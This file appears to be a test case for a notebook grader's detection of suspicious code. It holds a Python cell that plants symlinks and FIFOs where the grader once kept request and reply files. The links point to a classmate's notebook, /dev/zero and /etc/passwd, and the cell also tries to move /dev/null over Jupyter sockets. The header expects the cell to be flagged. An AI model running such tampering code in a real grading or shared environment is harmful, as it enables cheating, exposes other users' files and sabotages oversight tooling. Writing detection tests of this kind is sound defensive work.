# A right notebook that plants, in every folder it can reach, links and FIFOs where the grader
# once kept its requests and replies (to a classmate's notebook, /dev/zero, a FIFO that never
# answers) and tries to swap its Jupyter sockets for links: requests and replies travel in the
# kernel's messages, no file is opened, the socket folder is the grader's; full marks, flagged.
# expect-flags: suspicious-code
# expect-failing:
# %% add-cell
import glob, os
planted = []
for folder in [os.getcwd(), "/tmp", "/dev/shm", *glob.glob("/tmp/*"), *glob.glob("/tmp/*/*")]:
    for i in range(1, 40):
        for name, make in ((f"request-{i}.pkl", lambda p: os.symlink("../../submitted/rival/lab/lab.ipynb", p)),
                           (f"reply-{i}.json", lambda p: os.symlink("/dev/zero", p)),
                           (f"request-{i}.json", os.mkfifo), ("kernel.json", lambda p: os.symlink("/etc/passwd", p))):
            try:
                make(os.path.join(folder, name))
                planted.append(name)
            except OSError:
                pass
    try:
        for sock in os.listdir(folder):
            if sock.startswith("ipc-"):
                os.replace("/dev/null", os.path.join(folder, sock))
    except OSError:
        pass
print(len(planted), "planted")
